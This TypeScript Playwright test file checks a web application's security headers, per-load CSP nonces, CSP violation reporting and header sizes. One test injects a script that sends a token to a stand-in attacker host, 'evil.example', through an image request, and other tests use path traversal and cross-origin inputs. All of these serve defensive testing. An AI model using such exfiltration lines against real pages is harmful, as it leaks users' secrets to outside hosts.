import { once } from "node:events";
import { readdirSync, readFileSync } from "node:fs";
import { request as ask, type IncomingHttpHeaders } from "node:http";
import { expect, test } from "playwright/test";
import { newId } from "#lib/shared/id.ts";
import { startSignedIn } from "../bench/signed-in.ts";
import { builtPaths, placedActions } from "../support/action-ids.ts";
import { startDesk } from "../support/desk.ts";
import { madePdf } from "../support/made-pdf.ts";

/* What protects the reader of an answer is on every answer: of all pages and routes of the build, and whatever comes of a request. */

interface Asked {
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
}

interface Answered {
  status: number;
  headers: IncomingHttpHeaders;
}

const everywhere: Record<string, RegExp> = {
  "content-security-policy": /frame-ancestors 'none'/,
  "x-content-type-options": /^nosniff$/,
  "referrer-policy": /^no-referrer$/,
  "cross-origin-opener-policy": /^same-origin$/,
  "cross-origin-resource-policy": /^same-origin$/,
  "permissions-policy": /camera=\(\).*microphone=\(\)/,
  "strict-transport-security": /^max-age=31536000$/,
  "x-robots-tag": /^noindex$/,
};
/** The same for everybody who asks, so it may be kept. */
const isShared = /^\/(_next\/static\/|pdfjs\/|icon\.svg|sandbox\/(.*\/)?view\/(viewer\.js|style\.css)$)/;
const policyOfFiles = /^default-src 'none'; frame-ancestors 'none'; sandbox$/;
const storedFile = /^\/((documents|releases)\/[^/]+\/files|uploads)\//;

function missingIn(path: string, { headers }: Answered): string[] {
  const wrong = Object.entries(everywhere).flatMap(([name, value]) =>
    value.test(String(headers[name] ?? "")) ? [] : `${name}: ${headers[name]}`,
  );
  if (!isShared.test(path) && !/\bno-store\b/.test(headers["cache-control"] ?? ""))
    wrong.push(`cache-control: ${headers["cache-control"]}`);
  const reports = "/policy-reports";
  const policy = String(headers["content-security-policy"]);
  if (/\bnonce-/.test(policy)) {
    if (!policy.includes(`; report-to policy; report-uri ${reports}`)) wrong.push("a policy that reports nothing");
    if (headers["reporting-endpoints"] !== `policy="${reports}"`) wrong.push("reports that go nowhere");
  }
  if (storedFile.test(path) && !policyOfFiles.test(String(headers["content-security-policy"])))
    wrong.push("a file without its policy");
  if (headers["x-powered-by"] !== undefined || headers.server !== undefined) wrong.push("names its program");
  return wrong;
}

test("every page and route, whatever it answers, has all security headers, and nothing private may be kept", async () => {
  test.setTimeout(180_000);
  const desk = await startDesk((port) => ({ APP_URL: `https://localhost:${port}` }));
  const wrong: string[] = [];
  const seen = new Set<number>();
  let cookie = "";

  async function send({ method = "GET", path, headers = {}, body }: Asked): Promise<Answered> {
    const call = ask({ host: "localhost", port: desk.port, method, path, headers: { origin: desk.url, ...headers } });
    call.end(body);
    const [answer] = await once(call, "response");
    answer.resume();
    await once(answer, "close");
    const answered = { status: answer.statusCode, headers: answer.headers };
    seen.add(answered.status);
    // What the sandbox may be asked for: no document, so nothing that a policy could keep from doing anything.
    if (path.startsWith("/sandbox/") && method === "OPTIONS") return answered;
    for (const missing of missingIn(path, answered)) wrong.push(`${answered.status} ${method} ${path}: ${missing}`);
    return answered;
  }
  const act = (name: string, body: string, headers: Record<string, string> = {}) => {
    const { id = "", page = "/" } = placedActions()[name] ?? {};
    const action = { "next-action": id, "content-type": "text/plain;charset=UTF-8" };
    return send({ method: "POST", path: page, headers: { ...action, ...headers }, body });
  };

  try {
    const paths = builtPaths().map(({ path }) =>
      path.replaceAll(/\[([^\]]+)\]/g, (_, name) => (name === "id" ? newId() : "1")),
    );
    for (const path of paths) await send({ path });
    const code = new URL(desk.setupUrl()).searchParams.get("code");
    const admin = { code, name: "Admin", email: "admin@hanbit.example", password: "paper lantern orbit 71" };
    const setUp = await act("setup/setUp", JSON.stringify([admin]));
    cookie = (setUp.headers["set-cookie"] ?? []).map((one) => one.split(";")[0]).join("; ");
    expect(cookie).toContain("__Host-countersign=");

    for (const path of paths)
      for (const method of ["GET", "HEAD", "PUT", "POST", "PATCH", "DELETE", "OPTIONS"])
        await Promise.all([send({ method, path }), send({ method, path, headers: { cookie } })]);
    expect.soft((await send({ path: "/documents", headers: { cookie } })).status).toBe(200);
    expect([302, 303, 307]).toContain((await send({ path: "/documents" })).status);
    expect.soft((await send({ path: "/documents/export", method: "PATCH", headers: { cookie } })).status).toBe(405);

    const script = readdirSync(".next/static/chunks").find((name) => name.endsWith(".js"));
    for (const path of [`/_next/static/chunks/${script}`, "/pdfjs/pdf.min.mjs"]) {
      const { status, headers } = await send({ path });
      expect(status, path).toBe(200);
      const etag = headers.etag ?? "";
      expect.soft((await send({ path, headers: { "if-none-match": etag } })).status, path).toBe(304);
    }

    await send({ path: "/icon.svg" });

    // An upload, what is refused of it, and the file as it is looked at.
    const pdf = madePdf(1);
    const put = (path: string, body: Buffer, more: Record<string, string> = {}) => {
      const file = { "x-file-name": "a.pdf", "content-type": "application/pdf", "content-length": `${body.length}` };
      return send({ method: "PUT", path, headers: { cookie, ...file, ...more }, body });
    };
    const upload = `/uploads/${newId()}`;
    expect.soft((await put(upload, Buffer.from(pdf))).status).toBe(201);
    expect.soft((await send({ path: upload, headers: { cookie } })).status).toBe(200);
    expect.soft((await put(`/uploads/${newId()}`, Buffer.from("no PDF"))).status).toBe(400);
    expect(
      (await put(`/uploads/${newId()}`, Buffer.from(pdf), { "content-length": `${10 ** 12}`, connection: "close" }))
        .status,
    ).toBe(413);
    const form = { cookie, "content-type": "application/json" };
    expect.soft((await send({ method: "PUT", path: `/drafts/${newId()}`, headers: form, body: "{" })).status).toBe(400);

    expect.soft((await act("changeLanguage", '["en"]', { origin: "https://evil.example" })).status).toBe(403);
    expect.soft((await act("setup/setUp", "x".repeat(20_000))).status).toBe(401);
    expect.soft((await act("changeLanguage", "[", { cookie })).status).toBe(400);
    for (const path of ["/%", "/nothing", "/..%2f..%2fetc", `/documents/${newId()}/files/1`, "/_next/static/none.js"])
      expect.soft((await send({ path, headers: { cookie } })).status, path).toBe(404);
    for (const path of ["/sandbox/view/viewer.js", "/sandbox/view/style.css"])
      expect((await send({ path })).status, path).toBe(200);
    for (const path of ["/sandbox/oauth/token", "/sandbox/documents", "/sandbox/%"])
      await send({ method: "POST", path, body: "x" });

    for (const status of [200, 201, 304, 400, 401, 403, 404, 405, 413]) expect.soft(seen).toContain(status);
    expect(wrong).toEqual([]);
  } finally {
    await desk.remove();
  }
});

test("a hundred loads of a page have a hundred nonces, each on every script of its page and of no other", async () => {
  test.setTimeout(180_000);
  const { desk, cookie } = await startSignedIn();
  try {
    const nonces = new Set<string>();
    for (let n = 0; n < 100; n++) {
      const path = ["/documents", "/sign-in", "/documents/new", "/nothing"][n % 4] ?? "/";
      const answer = await fetch(`${desk.url}${path}`, { headers: path === "/sign-in" ? {} : { cookie } });
      const policy = new Map(
        (answer.headers.get("content-security-policy") ?? "").split("; ").map((rule) => {
          const [name = "", ...values] = rule.split(" ");
          return [name, values];
        }),
      );
      const sources = policy.get("script-src") ?? [];
      const [nonce = "", ...others] = sources.flatMap((source) => /^'nonce-(.{20,})'$/.exec(source)?.[1] ?? []);
      expect([nonce.length > 0, others]).toEqual([true, []]);
      nonces.add(nonce);
      expect(sources).toContain("'strict-dynamic'");
      expect(sources).not.toContain("'unsafe-inline'");
      expect(sources).not.toContain("'unsafe-eval'");
      for (const name of ["object-src", "base-uri", "frame-ancestors"])
        expect(policy.get(name), name).toEqual(["'none'"]);
      for (const name of ["form-action", "connect-src"]) expect(policy.get(name), name).toEqual(["'self'"]);
      const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length, path).toBeGreaterThan(0);
      expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
    }
    expect(nonces.size).toBe(100);
  } finally {
    await desk.remove();
  }
});

const reported = "a page was kept from doing what its policy forbids";

test("what a browser keeps a page from arrives in the log, without tokens and ids", async ({ page }) => {
  const desk = await startDesk();
  try {
    const token = "hN3x0aVq7bXyZ2kQ9mRr5tUw1cDe4fGh6iJk8lMnOpA";
    await page.goto(`${desk.url}/invitation/${token}?next=${token}`);
    await page.evaluate((secret) => {
      new Image().src = `https://evil.example/${secret}?${secret}`;
      const style = document.createElement("style");
      style.textContent = secret;
      document.body.append(style);
    }, token);
    const lines = () =>
      desk
        .output()
        .split("\n")
        .filter((line) => line.includes(reported))
        .map((line) => JSON.parse(line));
    await expect.poll(() => lines().length).toBe(2);
    const [picture, style] = lines().sort((a, b) => (a.directive < b.directive ? -1 : 1));
    expect(picture).toMatchObject({ directive: "img-src", blocked: "https://evil.example", path: "/invitation/*" });
    expect(style).toMatchObject({ directive: "style-src-elem", blocked: "inline", path: "/invitation/*" });
    expect(desk.output()).not.toContain(token);
  } finally {
    await desk.remove();
  }
});

test("reports are taken from anybody, whatever stands in them, and a thousand of them are a few lines of the log", async () => {
  test.setTimeout(120_000);
  const desk = await startDesk();
  try {
    const send = (body: string | Buffer<ArrayBuffer>, headers: Record<string, string> = {}, method = "POST") =>
      fetch(`${desk.url}/policy-reports`, {
        method,
        headers: { "content-type": "application/csp-report", ...headers },
        ...(method === "GET" ? {} : { body }),
      }).then(({ status }) => status);
    const report = JSON.stringify({ "csp-report": { "violated-directive": "img-src", "document-uri": desk.url } });
    for (const headers of [
      {},
      { origin: "null" },
      { origin: desk.url },
      { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
    ])
      expect(await send(report, headers), JSON.stringify(headers)).toBe(204);
    for (const type of [
      "application/reports+json",
      "text/plain",
      "multipart/form-data",
      "multipart/form-data; boundary=x",
    ])
      for (const body of ["", "{", "null", "[".repeat(8000), Buffer.of(0xff, 0, 0xfe), "--x\r\n"])
        expect(await send(body, { "content-type": type }), `${type} ${body.slice(0, 9)}`).toBe(204);
    for (const bytes of [65_537, 100_000]) expect(await send("x".repeat(bytes)), `${bytes}`).toBe(413);
    for (const method of ["GET", "PUT", "DELETE"]) expect(await send(report, { origin: desk.url }, method)).toBe(405);
    // What this path alone lets in leads to nothing else.
    const { id = "" } = placedActions().changeLanguage ?? {};
    const acted = await fetch(`${desk.url}/policy-reports`, {
      method: "POST",
      headers: { "next-action": id, "content-type": "text/plain" },
      body: '["ko"]',
    });
    expect([acted.status, acted.headers.get("set-cookie")]).toEqual([204, null]);
    for (const path of ["/policy-reports/", "/policy-reports/../sign-in", "/sign-in"])
      expect((await fetch(`${desk.url}${path}`, { method: "POST", redirect: "manual", body: report })).status).toBe(
        403,
      );

    const answers = await Promise.all(Array.from({ length: 1000 }, () => send(report)));
    expect(answers.filter((status) => status !== 204)).toEqual([]);
    const count = (event: string) => desk.output().split(event).length - 1;
    expect(count(reported)).toBeLessThanOrEqual(20);
    expect(desk.output()).not.toContain('"level":"error"');
  } finally {
    await desk.remove();
  }
});

test("the head of an answer fits into what the documented proxy has room for, also after the longest search that it lets through", async () => {
  const page = readFileSync("docs/running.md", "utf8");
  const [, kb = "4"] = /proxy_buffer_size (\d+)k;/.exec(page) ?? [];
  const desk = await startDesk((port) => ({ APP_URL: `https://localhost:${port}` }));
  try {
    // A line of nginx has 8 kB, and each byte of Hangul comes back as five characters.
    const path = `/documents?search=${encodeURIComponent("가".repeat(900))}`;
    const asked = ask({ host: "localhost", port: desk.port, path, agent: false }).end();
    const [answer] = await once(asked, "response");
    answer.resume();
    expect(answer.statusCode).toBe(307);
    expect(answer.rawHeaders.join("\r\n: ").length).toBeLessThan(Number(kb) * 1024 - 500);
  } finally {
    await desk.remove();
  }
});
